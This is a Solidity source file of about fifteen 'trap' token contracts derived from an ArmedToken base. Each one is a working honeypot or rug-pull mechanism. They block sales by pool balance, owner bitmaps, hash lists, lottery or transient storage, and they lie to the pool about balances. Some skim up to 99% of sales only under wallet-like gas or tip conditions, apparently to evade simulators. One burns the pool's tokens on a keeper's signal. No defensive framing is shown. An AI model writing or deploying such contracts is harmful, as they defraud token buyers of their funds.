// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ArmedToken} from "./TrapTokens.sol";

interface IPairState {
    function getReserves() external view returns (uint112 reserve0, uint112 reserve1, uint32 since);
    function token0() external view returns (address);
    function sync() external;
}

/// Can be sold while its pool is poor, and not once it has much more ether than it began with.
contract RichPoolToken is ArmedToken {
    IERC20 private constant _WETH = IERC20(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        require(!_isSale(from, to) || _WETH.balanceOf(pair) < 180 ether, "TRANSFER_FAILED");
        super._update(from, to, value);
    }
}

/// A word of bits for each 256 accounts says who may sell, once a bit that its owner writes says that it shall.
contract BitmapToken is ArmedToken {
    uint256 private _mode;
    mapping(uint256 word => uint256) private _bits;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function write(uint256 word, uint256 bits) external onlyOwner {
        if (word == type(uint256).max) _mode = bits;
        else _bits[word] = bits;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && _mode & 1 == 1) {
            uint256 place = uint160(from);
            require((_bits[place >> 8] >> (place & 255)) & 1 == 1, "TRANSFER_FAILED");
        }
        super._update(from, to, value);
    }
}

/// Whoever is asked to move tokens into the pool, and is not trusted, loses his allowance and moves nothing.
contract SpenderToken is ArmedToken {
    mapping(address spender => bool) private _trusted;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function setTrusted(address spender, bool trusted) external onlyOwner {
        _trusted[spender] = trusted;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (_isSale(from, to) && !_trusted[msg.sender]) {
            _approve(from, msg.sender, 0);
            return true;
        }
        return super.transferFrom(from, to, value);
    }
}

/// Tells its pool that nothing came in.
contract PairLiarToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function balanceOf(address account) public view override returns (uint256) {
        uint256 held = super.balanceOf(account);
        if (msg.sender != pair || account != pair) return held;
        (uint112 first, uint112 second,) = IPairState(pair).getReserves();
        uint256 noted = IPairState(pair).token0() == address(this) ? first : second;
        return held > noted ? noted : held;
    }
}

/// A sale reports success and moves a thousandth of it.
contract SliverToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, _isSale(from, to) ? value / 1_000 : value);
    }
}

/// Takes 97 % of a sale that was given as much gas as a wallet gives, and nothing of one with much more.
contract GasLeftToken is ArmedToken {
    address private immutable _fund;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, address fund)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _fund = fund;
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 cut = _isSale(from, to) && gasleft() < 1_500_000 ? (value * 97) / 100 : 0;
        if (cut > 0) super._update(from, _fund, cut);
        super._update(from, to, value - cut);
    }
}

/// Takes 90 % of a sale that pays a proposer more than a gwei.
contract TipToken is ArmedToken {
    address private immutable _fund;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, address fund)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _fund = fund;
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 cut = _isSale(from, to) && tx.gasprice > block.basefee + 1 gwei ? (value * 90) / 100 : 0;
        if (cut > 0) super._update(from, _fund, cut);
        super._update(from, to, value - cut);
    }
}

/// What may be sold at a time shrinks with each block, to nothing within days.
contract ShrinkingToken is ArmedToken {
    uint256 private immutable _start = block.number;
    uint256 private immutable _first;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _first = supply / 20;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) {
            uint256 less = (block.number - _start) * (_first / 20_000);
            require(value <= (less > _first ? 0 : _first - less), "over the limit");
        }
        super._update(from, to, value);
    }
}

/// One address sends nothing to itself, and what the pool holds is gone.
contract PoolBurnToken is ArmedToken {
    address private immutable _keeper;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, address keeper)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _keeper = keeper;
    }

    function _update(address from, address to, uint256 value) internal override {
        super._update(from, to, value);
        if (from == _keeper && to == _keeper && value == 0) {
            super._update(pair, address(0), balanceOf(pair) - 1);
            IPairState(pair).sync();
        }
    }
}

/// Accounts that delegate their code by EIP-7702 cannot sell.
contract DelegateTrapToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to) && from.code.length == 23) {
            bytes32 word;
            assembly {
                extcodecopy(from, 0, 0, 32)
                word := mload(0)
            }
            require(bytes3(word) != 0xef0100, "TRANSFER_FAILED");
        }
        super._update(from, to, value);
    }
}

/// Can be sold in the transaction that bought it, and not after it.
contract TransientToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        if (from == pair) {
            assembly {
                tstore(to, 1)
            }
        }
        if (_isSale(from, to)) {
            uint256 bought;
            assembly {
                bought := tload(from)
            }
            require(bought == 1, "TRANSFER_FAILED");
        }
        super._update(from, to, value);
    }
}

/// Takes 1 % of sales; a queued change raises that to 99 % at its time, and nobody is left to undo it.
contract FuseToken is ArmedToken {
    uint16 private _bps = 100;
    uint16 private _nextBps = 100;
    uint64 private _since;
    address private immutable _fund;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_, address fund)
        ArmedToken(name_, symbol_, supply, owner_)
    {
        _fund = fund;
    }

    function queueFee(uint16 bps, uint64 delay) external onlyOwner {
        _nextBps = bps;
        _since = uint64(block.timestamp) + delay;
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 bps = _since != 0 && block.timestamp >= _since ? _nextBps : _bps;
        uint256 cut = _isSale(from, to) ? (value * bps) / 10_000 : 0;
        if (cut > 0) super._update(from, _fund, cut);
        super._update(from, to, value - cut);
    }
}

/// Only contracts that its owner knows receive it; he knows the pool, today.
contract ReceiverToken is ArmedToken {
    mapping(address account => bool) private _known;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function setKnown(address account, bool known) external onlyOwner {
        _known[account] = known;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (pair != address(0) && to.code.length > 0) require(_known[to], "unknown contract");
        super._update(from, to, value);
    }
}

/// One sale in a million goes through, by lot.
contract LotteryToken is ArmedToken {
    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) {
            require(uint256(keccak256(abi.encode(block.prevrandao, from))) % 1_000_000 == 0, "TRANSFER_FAILED");
        }
        super._update(from, to, value);
    }
}

/// Each account sells once in its life.
contract OneSaleToken is ArmedToken {
    mapping(address account => bool) private _sold;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function _update(address from, address to, uint256 value) internal override {
        if (_isSale(from, to)) {
            require(!_sold[from], "TRANSFER_FAILED");
            _sold[from] = true;
        }
        super._update(from, to, value);
    }
}

/// Whose salted hash its owner marks cannot sell.
contract HashListToken is ArmedToken {
    bytes32 private immutable _salt = keccak256(abi.encode(block.timestamp, msg.sender));
    mapping(bytes32 hash => bool) private _marks;

    constructor(string memory name_, string memory symbol_, uint256 supply, address owner_)
        ArmedToken(name_, symbol_, supply, owner_)
    {}

    function mark(bytes32 hash, bool marked) external onlyOwner {
        _marks[hash] = marked;
    }

    function _update(address from, address to, uint256 value) internal override {
        require(!_marks[keccak256(abi.encodePacked(from, _salt))], "TRANSFER_FAILED");
        super._update(from, to, value);
    }
}
